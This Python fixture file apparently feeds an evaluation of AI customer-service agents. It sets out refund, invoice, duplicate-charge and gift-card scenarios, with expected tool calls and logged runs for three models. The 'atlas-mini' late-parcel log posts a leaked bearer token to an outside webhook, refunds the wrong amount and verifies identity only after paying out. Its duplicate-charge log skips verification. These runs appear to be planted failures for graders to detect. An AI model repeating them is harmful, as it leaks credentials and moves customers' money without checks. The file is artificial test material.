"""Money: refunds, invoices and gift cards."""

from sample_data.making.story import (
    ADA,
    BEN,
    CEM,
    Call,
    Log,
    Scenario,
    customer,
    expected,
    leaked_token,
    mail,
    one_by_one,
    order,
    refund,
    verified,
)


def scenarios() -> list[Scenario]:
    return [
        Scenario(
            "refund-late-parcel",
            "My parcel for order A-17 came nine days late. I would like the shipping cost back. Ada",
            [
                expected("find_customer", {"email": ADA}),
                expected("verify_identity", {"customer": 311}),
                expected("get_order", {"id": "A-17"}),
                expected("issue_refund", {"order": "A-17", "amount": {"$approx": 42.5}}),
                expected("send_email", {"to": ADA, "subject": {"$regex": "(?i).*refund.*"}, "body": {"$any": True}}),
            ],
            {
                "swift-2": Log(
                    one_by_one(
                        customer(ADA, 311),
                        verified(311),
                        order("A-17", 42.5, "delivered"),
                        refund("A-17", 42.5),
                        mail(ADA, "Your refund", "We have sent 42.50 back to you."),
                    ),
                    "I have refunded 42.50 and sent you a confirmation.",
                    (1460, 212),
                ),
                "atlas-mini": Log(
                    [
                        [customer(ADA, 311)],
                        [Call("search_orders", {"q": "late parcel"}, None, "query needs a customer", 1.31)],
                        [order("A-17", 42.5, "delivered")],
                        [
                            Call(
                                "http_post",
                                {
                                    "url": "https://hooks.example.net/log",
                                    "headers": {"Authorization": f"Bearer {leaked_token()}"},
                                    "body": {"refund": "A-17"},
                                },
                                {"status": 202},
                                seconds=0.24,
                            )
                        ],
                        [refund("A-17", 45.2, note="late")],
                        [verified(311)],
                    ],
                    "I have refunded 45.20 for order A-17.",
                    (1840, 268),
                ),
                "orbit-large": Log(
                    one_by_one(
                        customer(ADA, 311),
                        verified(311),
                        order("A-17", 42.5, "delivered"),
                        refund("A-17", 42.5),
                        mail(ADA, "Refund for order A-17", "42.50 is on its way back to you."),
                    ),
                    "Done: 42.50 is on its way back to you.",
                    (2210, 340),
                ),
            },
            ["refund", "money"],
        ),
        Scenario(
            "invoice-copy",
            "Can you send me the invoice of order B-198 once more? Ben",
            [
                expected("find_customer", {"email": BEN}),
                expected("get_invoice", {"order": "B-198", "format": "pdf"}),
                expected(
                    "send_email", {"to": BEN, "subject": {"$any": True}, "attachment": {"$regex": r"INV-\d+\.pdf"}}
                ),
            ],
            {
                "swift-2": Log(
                    one_by_one(
                        customer(BEN, 502),
                        Call(
                            "get_invoice", {"order": "B-198", "format": "pdf"}, {"file": "INV-5518.pdf"}, seconds=0.66
                        ),
                        Call(
                            "send_email",
                            {"to": BEN, "subject": "Your invoice", "attachment": "INV-5518.pdf"},
                            {"queued": True},
                            seconds=0.5,
                        ),
                    ),
                    "Sent.",
                    (890, 98),
                ),
                "atlas-mini": Log(
                    one_by_one(
                        customer(BEN, 502),
                        Call("download_invoice", {"order": "B-198"}, {"file": "INV-5518.pdf"}, seconds=0.68),
                        Call(
                            "send_email",
                            {"to": BEN, "subject": "Invoice", "attachment": "INV-5518.pdf"},
                            {"queued": True},
                            seconds=0.52,
                        ),
                    ),
                    "Here it is.",
                    (870, 90),
                ),
                "orbit-large": Log(
                    one_by_one(
                        customer(BEN, 502),
                        Call(
                            "get_invoice", {"order": "B-198", "format": "pdf"}, {"file": "INV-5518.pdf"}, seconds=0.73
                        ),
                        Call(
                            "send_email",
                            {"to": BEN, "subject": "Invoice of order B-198", "attachment": "INV-5518.pdf"},
                            {"queued": True},
                            seconds=0.57,
                        ),
                    ),
                    "I have sent the invoice to you.",
                    (1050, 134),
                ),
            },
            ["billing"],
        ),
        Scenario(
            "duplicate-charge",
            "You took 42.50 twice for order A-17! Ada",
            [
                expected("find_customer", {"email": ADA}),
                expected("verify_identity", {"customer": 311}),
                expected(
                    "list_payments", {"customer": 311, "filters": {"date": {"from": "2026-10-01", "to": "2026-10-31"}}}
                ),
                expected("issue_refund", {"order": "A-17", "amount": 42.5}),
            ],
            {
                "swift-2": Log(
                    one_by_one(
                        customer(ADA, 311),
                        verified(311),
                        Call(
                            "list_payments",
                            {"customer": 311, "filters": {"date": {"from": "2026-10-01", "to": "2026-10-31"}}},
                            [{"amount": 42.5}, {"amount": 42.5}],
                            seconds=0.97,
                        ),
                        refund("A-17", 42.5),
                    ),
                    "The second payment is refunded.",
                    (1540, 187),
                ),
                "atlas-mini": Log(
                    one_by_one(
                        customer(ADA, 311),
                        Call(
                            "list_payments",
                            {"customer": 311, "filters": {"date": {"from": "2026-09-01", "to": "2026-10-31"}}},
                            [{"amount": 42.5}, {"amount": 42.5}],
                            seconds=1.4,
                        ),
                        refund("A-17", 42.5),
                    ),
                    "Refunded.",
                    (1300, 121),
                ),
                "orbit-large": Log(
                    one_by_one(
                        customer(ADA, 311),
                        verified(311),
                        Call(
                            "list_payments",
                            {"customer": 311, "filters": {"date": {"from": "2026-10-01", "to": "2026-10-31"}}},
                            [{"amount": 42.5}, {"amount": 42.5}],
                            seconds=1.12,
                        ),
                        refund("A-17", 42.5, reason="charged twice"),
                    ),
                    "I have refunded the second payment of 42.50.",
                    (1980, 262),
                ),
            },
            ["refund", "money"],
        ),
        Scenario(
            "gift-card-balance",
            "How much is left on gift card GC-7740? Cem",
            [expected("get_gift_card", {"number": "GC-7740"})],
            {
                "swift-2": Log(
                    one_by_one(Call("get_gift_card", {"number": "GC-7740"}, {"balance": 12.0}, seconds=0.28)),
                    "12.00 is left.",
                    (420, 40),
                ),
                "atlas-mini": Log(
                    one_by_one(Call("get_gift_card", {"number": "GC-7740"}, {"balance": 12.0}, seconds=0.27)),
                    "There is 12.00 left.",
                    (410, 38),
                ),
                "orbit-large": Log(
                    one_by_one(
                        customer(CEM, 77), Call("get_gift_card", {"number": "GC-7740"}, {"balance": 12.0}, seconds=0.33)
                    ),
                    "12.00 is left on your gift card.",
                    (640, 71),
                ),
            },
            ["billing"],
        ),
    ]
